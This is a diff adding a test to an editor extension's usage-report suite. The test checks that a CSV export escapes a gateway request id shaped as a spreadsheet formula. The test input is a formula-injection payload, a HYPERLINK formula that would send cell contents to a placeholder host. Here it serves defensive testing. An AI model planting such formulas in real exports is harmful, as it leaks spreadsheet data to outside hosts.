@@ -126,6 +126,26 @@ describe('Usage report', () => {
     assert.ok(!text.includes(keys.openai) && !text.includes(keys.anthropic), 'exports never hold a key');
   });
 
+  it('exports a request id a gateway began with = as text, not as a spreadsheet formula', async () => {
+    const api = await activateTandem();
+    const formula = '=HYPERLINK("https://example.invalid/?q="&A1,"open")';
+    await fake.script({ match: { provider: 'openai' }, headers: { 'x-request-id': formula }, reply: { text: 'const x = 1;' } });
+    await api.models.service.run({ task: 'generateCode', system: ['Write code.'], messages: [{ role: 'user', content: 'One constant.' }] });
+    assert.ok((await sessionRecords()).some((r) => r.requestId === formula), 'the ledger keeps the id as the gateway sent it');
+    await vscode.commands.executeCommand('tandem.showUsage', 'session');
+    const panel = await waitFor('the report panel', () => api.report());
+    const target = vscode.Uri.file(path.join(mkdtempSync(path.join(tmpdir(), 'tandem-export-')), 'usage.csv'));
+    const dialog = answerPrompt('showSaveDialog', () => target);
+    try {
+      await panel.exportLedger('csv', 'session');
+    } finally {
+      dialog.dispose();
+    }
+    const csv = readFileSync(target.fsPath, 'utf8');
+    assert.ok(csv.includes(',"\'=HYPERLINK(""https://example.invalid/?q=""&A1,""open"")",'), csv);
+    assert.ok(!/(^|,)=/m.test(csv), 'no cell starts with =');
+  });
+
   it('writes nothing when the save dialog is cancelled', async () => {
     const api = await activateTandem();
     await vscode.commands.executeCommand('tandem.showUsage', 'session');
